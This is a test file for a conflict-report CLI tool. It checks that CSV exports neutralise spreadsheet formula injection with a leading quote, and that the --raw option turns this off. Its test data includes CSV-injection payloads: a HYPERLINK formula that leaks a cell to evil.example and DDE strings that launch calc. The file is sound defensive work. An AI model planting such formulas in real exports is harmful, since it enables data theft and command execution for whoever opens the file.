"""CSV output never hands a spreadsheet a formula from a hostile report: cells beginning with = + - @ tab or
CR are written after a single quote (OWASP's rule), numbers are left as numbers, and --raw opts out."""

from __future__ import annotations

import csv
import io

import pytest
from click.testing import CliRunner

from sitrep.cli import main
from sitrep.export import export
from sitrep.export.writers import FORMULA_STARTS, neutralise_cell, write_csv
from sitrep.model import Actor, Claim, Claimant, Count, DateRef, Document, Event, Extraction, Location, Person, Span, Subject
from sitrep.store import Store

FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "@SUM(1+1)*cmd|' /C calc'!A0", "+1+cmd|' /C calc'!A0",
            "-2+3+cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]


@pytest.mark.parametrize("cell", FORMULAS)
def test_formula_cells_get_a_leading_quote(cell):
    assert neutralise_cell(cell) == "'" + cell


@pytest.mark.parametrize("cell", ["-12", "+3.5", "-0.25", "1e-3", "-7E+2", ".5", "Kharkiv", "", "a=b", " =1", "'=1"])
def test_numbers_and_plain_text_are_left_alone(cell):
    assert neutralise_cell(cell) == cell


def test_non_strings_are_left_alone():
    assert neutralise_cell(-5) == -5 and neutralise_cell(-33.5) == -33.5 and neutralise_cell(None) is None


def test_write_csv_neutralises_unless_raw():
    rows = [{"a": FORMULAS[0], "b": -4, "c": "-4"}]
    out = io.StringIO()
    write_csv(rows, out, ("a", "b", "c"))
    got = next(csv.DictReader(io.StringIO(out.getvalue())))
    assert got == {"a": "'" + FORMULAS[0], "b": "-4", "c": "-4"}
    raw = io.StringIO()
    write_csv(rows, raw, ("a", "b", "c"), raw=True)
    assert next(csv.DictReader(io.StringIO(raw.getvalue())))["a"] == FORMULAS[0]


def _hostile_store(path) -> str:
    db = str(path / "hostile.db")
    text = "Shelling killed 3 people in the village, the official said. " + " ".join(FORMULAS)
    doc = Document(text=text, id="hostile-1", title="=1+1 title", outlet="@outlet", url="https://example.org/1",
                   published="2023-04-01")
    who = Claimant(name=FORMULAS[0], kind="official", text=FORMULAS[0])
    x = Extraction(id=doc.id, published=doc.published, language="en",
                   claims=[Claim(id="c1", measure=["killed"], subject=Subject(FORMULAS[1], "UA", "civilians"),
                                 count=Count(best=3), claimant=who, event_id="e1", evidence=Span(0, 25))],
                   people=[Person(id="p1", name="+Ivan Cmd", role="-2+3", evidence=[Span(0, 8)])],
                   events=[Event(id="e1", event_type="Explosions/Remote violence",
                                 sub_event_type="Shelling/artillery/missile attack",
                                 date=DateRef("2023-04-01", "2023-04-01", "day"),
                                 location=Location(name=FORMULAS[1], geonames_id=None, country="UA", admin1="=cmd",
                                                   lat=-33.5, lon=-70.25, precision="exact", text="x"),
                                 actors=[Actor(FORMULAS[2], "RU", "military", "actor1"), Actor("\t=1", "UA", "civilians", "actor2")],
                                 fatalities=3, claim_ids=["c1"], evidence=[Span(0, 8)])])
    with Store.open(db) as store:
        store.add(doc, x)
    return db


def _cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def _assert_no_formula(cells: list[str]) -> None:
    bad = [c for c in cells if c.startswith(FORMULA_STARTS) and neutralise_cell(c) != c]
    assert not bad, bad


@pytest.mark.parametrize("fmt", ["acled-csv", "ucdp-csv"])
def test_exports_write_no_formula(tmp_path, fmt):
    db = _hostile_store(tmp_path)
    out = io.StringIO()
    with Store.open(db) as store:
        assert export(store, fmt, out) == 1
    cells = _cells(out.getvalue())
    _assert_no_formula(cells)
    assert any(c.startswith("'=HYPERLINK") for c in cells) or fmt == "ucdp-csv"
    if fmt == "acled-csv":
        assert "-33.5" in cells and "-70.25" in cells  # negative coordinates stay numbers
        raw = io.StringIO()
        with Store.open(db) as store:
            export(store, fmt, raw, raw=True)
        assert FORMULAS[1] in _cells(raw.getvalue())


@pytest.mark.parametrize("args", [["export", "--format", "acled-csv"], ["export", "--format", "ucdp-csv"],
                                  ["events", "--format", "csv"], ["claims", "--format", "csv"],
                                  ["people", "--format", "csv"], ["search", "village", "--format", "csv"]])
def test_every_csv_command_neutralises_and_raw_opts_out(tmp_path, args):
    db = _hostile_store(tmp_path)
    result = CliRunner().invoke(main, args + ["--db", db])
    assert result.exit_code == 0, result.output
    cells = _cells(result.stdout)
    assert len(cells) > 5
    _assert_no_formula(cells)
    raw = CliRunner().invoke(main, args + ["--db", db, "--raw"])
    assert raw.exit_code == 0, raw.output
    if args[0] != "search":
        assert any(c.startswith(FORMULA_STARTS) and neutralise_cell(c) != c for c in _cells(raw.stdout))


def test_resolver_listings_neutralise_too(tmp_path):
    db = _hostile_store(tmp_path)
    assert CliRunner().invoke(main, ["resolve", "--db", db]).exit_code == 0
    result = CliRunner().invoke(main, ["people", "register", "--db", db, "--format", "csv"])
    assert result.exit_code == 0, result.output
    _assert_no_formula(_cells(result.stdout))
